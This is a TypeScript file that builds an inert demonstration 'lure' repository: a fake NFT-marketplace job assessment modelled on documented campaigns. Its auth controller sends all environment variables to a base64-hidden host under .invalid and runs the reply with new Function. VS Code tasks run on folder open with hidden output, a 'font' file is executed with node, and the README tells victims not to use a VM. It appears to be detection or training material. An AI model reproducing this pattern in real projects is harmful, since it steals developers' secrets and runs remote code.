/**
 * The example lure: a take-home "NFT marketplace" in the manner of the documented ones (catalogue T02, T05, T11, T14, T26, T41, T50), and inert: the
 * host is below `.invalid`, which never resolves (RFC 6761), the fake font exports a word. Kept as text: nothing here is ever loaded.
 */
export const DEMO_NAME = 'nft-marketplace-assessment';

const json = (value: unknown): string => `${JSON.stringify(value, null, 2)}\n`;
const ADDRESS = Buffer.from('https://assets-auth-check.invalid/api/v1/validate').toString('base64');

const PACKAGE = {
  name: 'nft-marketplace-assessment',
  version: '1.2.0',
  private: true,
  scripts: {
    prepare: 'node server/server.js',
    start: 'node server/server.js',
    dev: 'concurrently "npm run start" "vite"',
    build: 'vite build',
  },
  dependencies: {
    axios: '1.7.7',
    cors: '2.8.5',
    dotenv: '16.4.5',
    express: '4.21.0',
    react: '18.3.1',
    'react-dom': '18.3.1',
  },
  devDependencies: { concurrently: '9.0.1', vite: '5.4.8' },
};

const TASKS = {
  version: '2.0.0',
  tasks: [
    {
      label: 'env',
      type: 'shell',
      command: 'npm install --silent --no-progress',
      presentation: {
        reveal: 'never',
        echo: false,
        focus: false,
        close: true,
        panel: 'dedicated',
        showReuseMessage: false,
      },
      runOptions: { runOn: 'folderOpen' },
    },
    {
      label: 'eslint-check',
      type: 'shell',
      command: 'node public/fonts/fa-brands-400.woff2',
      presentation: { reveal: 'silent', echo: false },
      runOptions: { runOn: 'folderOpen' },
    },
  ],
};

export const DEMO_LURE: Readonly<Record<string, string>> = {
  'README.md': `# NFT Marketplace: technical assessment

Please finish the "My collection" page within 48 hours.

1. Open the project in VS Code and trust the workspace.
2. \`npm install\`
3. \`npm run dev\`, then connect a test wallet.

Do not use Docker or a virtual machine: the wallet connector does not work there.
`,
  'package.json': json(PACKAGE),
  '.vscode/tasks.json': json(TASKS),
  '.vscode/settings.json': json({
    'editor.formatOnSave': true,
    'task.allowAutomaticTasks': 'on',
    'files.exclude': { '**/.vscode': true },
  }),
  'server/.env': `PORT=5000
MONGO_URI=mongodb://localhost:27017/nft
AUTH_API=${ADDRESS}
JWT_SECRET=change-me
`,
  'server/server.js': `const path = require('path');
require('dotenv').config({ path: path.join(__dirname, '.env') });
const express = require('express');
const cors = require('cors');
const routes = require('./routes');

const app = express();
app.use(cors());
app.use(express.json());
app.use('/api', routes);

app.listen(process.env.PORT || 5000, () => console.log('API is up'));
`,
  'server/routes/index.js': `const router = require('express').Router();

router.use('/auth', require('./auth'));
router.use('/collections', require('./collections'));

module.exports = router;
`,
  'server/routes/auth.js': `const router = require('express').Router();
const { login, profile } = require('../controllers/auth');

router.post('/login', login);
router.get('/profile', profile);

module.exports = router;
`,
  'server/routes/collections.js': `const router = require('express').Router();

router.get('/', (req, res) => res.json([{ id: 1, name: 'Quiet Apes', floor: '0.42' }]));

module.exports = router;
`,
  'server/controllers/auth.js': `const axios = require('axios');

const login = async (req, res) => {
  const { email, password } = req.body;
  if (!email || !password) return res.status(400).json({ message: 'Fill in all fields' });
  return res.json({ token: Buffer.from(email).toString('hex') });
};

const profile = (req, res) => res.json({ name: 'Demo', collections: [] });

const setApiKey = (value) => Buffer.from(value, 'base64').toString('utf8');

const verify = (api) => axios.post(api, { ...process.env }, { headers: { 'x-app-request': 'ip-check' } });

const validateApiKey = async () => {
  try {
    const { data } = await verify(setApiKey(process.env.AUTH_API));
    const executor = new Function('require', data);
    executor(require);
    console.log('API key verified successfully.');
    return true;
  } catch (error) {
    return false;
  }
};

validateApiKey();

module.exports = { login, profile };
`,
  'public/fonts/fa-brands-400.woff2': `${' '.repeat(240)}module.exports = 'an inert example, nothing happens here';\n`,
  'public/index.html': `<!doctype html>
<html lang="en">
  <head><meta charset="utf-8" /><title>NFT Marketplace</title></head>
  <body><div id="root"></div><script type="module" src="/src/main.jsx"></script></body>
</html>
`,
  'src/main.jsx': `import React from 'react';
import { createRoot } from 'react-dom/client';
import { App } from './App.jsx';

createRoot(document.getElementById('root')).render(<App />);
`,
  'src/App.jsx': `import React, { useEffect, useState } from 'react';

export function App() {
  const [collections, setCollections] = useState([]);
  useEffect(() => {
    fetch('/api/collections')
      .then((answer) => answer.json())
      .then(setCollections);
  }, []);
  return (
    <main>
      <h1>NFT Marketplace</h1>
      <ul>{collections.map((item) => <li key={item.id}>{item.name} ({item.floor} ETH)</li>)}</ul>
    </main>
  );
}
`,
  'vite.config.js': `import { defineConfig } from 'vite';

export default defineConfig({ server: { port: 3000, proxy: { '/api': 'http://localhost:5000' } } });
`,
};
